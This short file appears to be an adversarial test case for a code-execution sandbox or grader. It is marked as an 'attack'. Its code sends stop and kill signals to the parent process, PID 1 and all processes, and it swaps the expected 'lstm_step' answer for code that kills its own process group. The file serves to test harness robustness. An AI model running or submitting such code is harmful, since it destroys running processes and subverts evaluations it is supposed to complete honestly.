# /// attack
# what = "sends signals to everybody"
# quick = true
# prints = ["sent"]
# keeps = ["lstm_unroll"]
# ///
# %%
import os, signal
print("sent", flush=True)
for pid in (int("@PID@"), os.getppid(), 1, 2):
    if pid in (0, os.getpid()):
        continue
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        try:
            os.kill(pid, number)
        except OSError as error:
            print(pid, error)
try:
    os.kill(-1, signal.SIGKILL)
except OSError as error:
    print(error)

# %% answer="lstm_step"
def lstm_step(x_t, state, U, W, b):
    import os, signal
    os.killpg(os.getpgid(0), signal.SIGKILL)
